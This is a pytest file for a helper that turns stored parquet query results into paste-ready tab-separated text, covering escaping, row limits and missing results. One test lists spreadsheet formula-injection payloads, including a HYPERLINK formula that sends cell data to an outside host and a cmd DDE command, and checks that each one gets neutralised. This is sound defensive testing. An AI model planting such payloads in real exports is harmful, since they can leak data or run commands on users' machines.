"""A table as text to paste: a line a row, a cell a column, nothing that a sheet would run."""

from datetime import UTC, date, datetime, time, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any
from uuid import uuid4

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from core.data.tsv import tsv_of
from core.errors import ResultGone

# The id of nothing; the same in each worker of the tests.
UNKNOWN = "01a1ff4e-f950-7589-a1f2-478fef1f80d7"


def saved(folder: Path, **columns: Any) -> str:
    id_ = str(uuid4())
    pq.write_table(pa.table(columns), folder / f"{id_}.parquet")
    return id_


def lines(folder: Path, **columns: Any) -> list[str]:
    text = "".join(tsv_of(folder, saved(folder, **columns)).pieces)
    assert text.endswith("\n")
    return text[:-1].split("\n")


def cell(folder: Path, value: Any) -> str:
    return lines(folder, a=[value])[1]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (None, ""),
        ("", ""),
        (True, "true"),
        (-7, "-7"),
        (0.1, "0.1"),
        (float("nan"), "nan"),
        (Decimal("12.50"), "12.5"),
        (Decimal(-3), "-3"),
        (date(2013, 7, 1), "2013-07-01"),
        (datetime(2013, 7, 1, 5, 30), "2013-07-01 05:30:00"),  # noqa: DTZ001 - as data has them
        (datetime(2013, 7, 1, 5, 30, tzinfo=UTC), "2013-07-01 05:30:00+00:00"),
        (time(5, 30), "05:30:00"),
        (timedelta(hours=1), "1:00:00"),
        (b"\x00\xff", "00ff"),
        (["x", None, "a\tb"], '["x", null, "a\\tb"]'),
        ({"k": "v"}, '{"k": "v"}'),
        ("a\tb\nc\r\nd", "a\\tb\\nc\\r\\nd"),
        ("C:\\temp", "C:\\temp"),
        ('say "hi"', 'say "hi"'),
        ("日本 🙂", "日本 🙂"),
    ],
)
def test_a_cell_is_written_plainly(tmp_path: Path, value: Any, written: str) -> None:
    assert cell(tmp_path, value) == written


@pytest.mark.parametrize(
    "text", ["=1+1", '=HYPERLINK("http://x.example?"&A1)', "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3"]
)
def test_text_that_a_sheet_would_run_is_made_text(tmp_path: Path, text: str) -> None:
    assert cell(tmp_path, text) == f"'{text}"


@pytest.mark.parametrize("text", ["-5", "+49", "-1.5e3", "-", "+", "a=b"])
def test_numbers_and_dashes_stay_as_they_are(tmp_path: Path, text: str) -> None:
    assert cell(tmp_path, text) == text


def test_the_header_is_escaped_as_cells_are(tmp_path: Path) -> None:
    assert lines(tmp_path, **{"a\tb": [1], "=x": [2]})[0] == "a\\tb\t'=x"


def test_the_first_rows_come_and_all_are_counted(tmp_path: Path) -> None:
    id_ = saved(tmp_path, n=list(range(25_000)))
    table = tsv_of(tmp_path, id_)
    text = "".join(table.pieces).splitlines()
    assert (table.total, len(text)) == (25_000, 10_001)
    assert (text[1], text[-1]) == ("0", "9999")


@pytest.mark.parametrize("rows", [1, 999, 1_000, 1_001])
def test_a_limit_cuts_at_its_row(tmp_path: Path, rows: int) -> None:
    id_ = saved(tmp_path, n=list(range(3_000)))
    assert len("".join(tsv_of(tmp_path, id_, rows=rows).pieces).splitlines()) == rows + 1


def test_an_empty_result_is_its_header(tmp_path: Path) -> None:
    assert lines(tmp_path, n=pa.array([], pa.int64())) == ["n"]


def test_dates_beyond_pythons_calendar_are_text(tmp_path: Path) -> None:
    endless = pa.array([2**31 - 1, 0], pa.date32())
    assert lines(tmp_path, d=endless) == ["d", "infinity", "1970-01-01"]


@pytest.mark.parametrize("id_", ["", "../x", "unknown", "\x00", UNKNOWN])
def test_a_result_that_is_not_there_is_gone(tmp_path: Path, id_: str) -> None:
    with pytest.raises(ResultGone):
        tsv_of(tmp_path, id_)


def test_a_file_that_is_no_result_is_gone(tmp_path: Path) -> None:
    id_ = str(uuid4())
    (tmp_path / f"{id_}.parquet").write_bytes(b"not parquet, surely. " * 100)
    with pytest.raises(ResultGone, match="Run the query again"):
        tsv_of(tmp_path, id_)
